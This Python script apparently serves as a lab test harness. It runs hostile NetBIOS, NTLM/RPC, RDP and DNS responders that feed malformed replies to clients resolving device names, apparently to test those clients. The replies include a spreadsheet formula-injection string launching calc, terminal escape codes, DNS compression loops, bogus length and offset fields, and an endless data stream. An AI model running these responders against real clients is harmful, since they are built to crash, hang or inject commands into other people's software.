#!/usr/bin/python3
"""Devices and a DNS server that attack whoever asks for their name. One address, one attack; see README.md.

usage: hostile.py <certificate> <key>     on 10.77.1.30 to .38 and 10.77.1.55 (the DNS server)"""
import asyncio
import ssl
import struct
import sys

import replies

NET = "10.77.1."
EVIL = "\x1b[31m=cmd|'/c calc'!A1\r\n\x07,\"\u202e\u00e9"  # colour, formula, new line, bell, comma, right-to-left
EVIL_NETBIOS = [  # 15 bytes each, OEM code page
    (b"\x1b[2J\x07=1+1\r\n\xff\x9b", 0x00, 0x0400), (b"\x1b[2J\x07=1+1\r\n\xff\x9b", 0x20, 0x0400), (b"@SUM(A1)\t\"", 0x00, 0x8400)]

NETBIOS = {
    30: lambda q: replies.nbstat(q, names=EVIL_NETBIOS),
    31: lambda q: replies.nbstat(q, count=255),                                   # far more names counted than sent
    34: lambda q: replies.nbstat(q, names=[]),
    35: lambda q: replies.nbstat(q, names=[(b"NNRLAB", 0x00, 0x8400)]),          # a group, nobody's name
    36: lambda q: replies.nbstat(q, names=[(b"               ", 0x00, 0x0400)]),  # fifteen spaces
    37: lambda q: replies.nbstat(q, names=[(b"\0" * 15, 0x00, 0x0400)] * 255)[:4000],
    38: lambda q: replies.nbstat(q, names=[(b"CLASH38", 0x00, 0x0C00)]),         # marked as in conflict
}
NTLM = {
    30: lambda: replies.ntlm_challenge(netbios=EVIL, dnsname=EVIL + ".nnr.lab.test"),
    31: lambda: replies.ntlm_challenge(info_length=0xFFFF),
    32: lambda: replies.ntlm_challenge(info_offset=0xFFFFFFF0),
    34: lambda: replies.ntlm_challenge(netbios="", dnsname=""),
    35: lambda: replies.ntlm_challenge(netbios=b"\x00\xd8A", dnsname=b"\x00\xdc\x00\xd8"),  # odd length, lone surrogates
    36: lambda: replies.ntlm_challenge(netbios="A" * 20000, dnsname="b" * 4000),
    37: lambda: b"NTLMSSP\0\2\0\0\0",                                            # cut short
    38: lambda: replies.ntlm_challenge()[:8] + struct.pack("<I", 3) + bytes(60),  # an AUTHENTICATE of ours comes back
}


def bad_dns(query):
    """The attack is chosen by the last octet of the address whose name is asked for."""
    if len(query) < 20:
        return None
    label = query[13:13 + query[12]]
    octet = int(label) if label.isdigit() else 0
    right = replies.dns(query)
    head = right[:2] + b"\x85\x80" + right[4:6] + b"\x00\x01\x00\x00\x00\x00" + right[12:]
    here = len(head)

    def record(owner, data, kind=12, size=None):
        return owner + struct.pack(">HHIH", kind, 1, 60, len(data) if size is None else size) + data

    owner = b"\xc0\x0c"
    return {
        1: head + record(struct.pack(">H", 0xC000 | here), b"\x00"),                   # owner points to itself
        2: head + record(owner, struct.pack(">H", 0xC000 | here + 12)),                # data points to itself
        3: head + record(owner, struct.pack(">HH", 0xC000 | here + 14, 0xC000 | here + 12)),  # two pointers, one circle
        4: head + record(owner, b"\x03abc\x00", size=0xFFFF),                          # longer than the datagram
        5: head + record(owner, b"\x3fshort"),                                         # label longer than the data
        6: head[:6] + b"\xff\xff" + head[8:] + record(owner, b"\x03abc\x00"),          # 65,535 answers counted, one sent
        7: head + record(owner, (b"\x01a" * 300) + b"\x00"),                           # a name of 600 bytes
        8: head + record(owner, b"\x40abc\x00"),                                       # reserved label type
        9: head + record(b"\x03xxx\x00", b"\x05other\x00"),                            # PTR of a name nobody asked for
        10: head + record(owner, b"\x0a" + b"\x1b[31m=1+1\n" + b"\x03nnr\x00"),        # control characters
        11: head + record(owner, b"\x00"),                                             # PTR to the root
        12: head[:2] + b"\x87\x80" + head[4:6] + bytes(6) + right[12:],                # truncated for ever, on TCP too
        13: head + record(owner, owner, kind=5),                                       # CNAME to itself
    }.get(octet, right)


class Names(asyncio.DatagramProtocol):
    def __init__(self, answer):
        self.answer = answer

    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, peer):
        try:
            if reply := self.answer(data):
                self.transport.sendto(reply, peer)
        except (IndexError, ValueError, struct.error):
            pass


async def mapper(octet, reader, writer):
    writer.write(replies.rpc(await reader.read(4096), challenge=NTLM[octet]()))
    await writer.drain()
    await reader.read(1)


async def endless_x224(reader, writer):
    """A TPKT that claims 65,535 bytes, an X.224 that claims more than its TPKT, and then data for ever."""
    await reader.read(4096)
    writer.write(bytes.fromhex("0300ffff" + "fed00000123400"))
    block = bytes(65536)
    while True:
        writer.write(block)
        await writer.drain()
        await asyncio.sleep(0.002)


async def desktop(tls, reader, writer):
    writer.write(replies.rdp(await reader.read(4096)))
    await writer.start_tls(tls)
    await reader.read(1)


async def dns_tcp(reader, writer):
    size = struct.unpack(">H", await reader.readexactly(2))[0]
    writer.write(replies.framed(53, bad_dns(await reader.readexactly(size))))
    await reader.read(1)


async def listen(octet, port, handler):
    async def accepted(reader, writer):
        try:
            await handler(reader, writer)
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError, TypeError, IndexError, ValueError, struct.error):
            pass
        finally:
            writer.transport.abort() if handler is endless_x224 else writer.close()

    await asyncio.start_server(accepted, NET + str(octet), port, backlog=256)


async def main(certificate, key):
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(certificate, key)
    loop = asyncio.get_running_loop()
    loop.set_exception_handler(lambda *_: None)
    for octet, answer in NETBIOS.items():
        await loop.create_datagram_endpoint(lambda a=answer: Names(a), (NET + str(octet), 137))
    for octet in NTLM:
        await listen(octet, 135, lambda r, w, o=octet: mapper(o, r, w))
    await listen(33, 3389, endless_x224)
    await listen(30, 3389, lambda r, w: desktop(tls, r, w))
    await loop.create_datagram_endpoint(lambda: Names(bad_dns), (NET + "55", 53))
    await listen(55, 53, dns_tcp)
    await asyncio.Event().wait()


asyncio.run(main(*sys.argv[1:]))
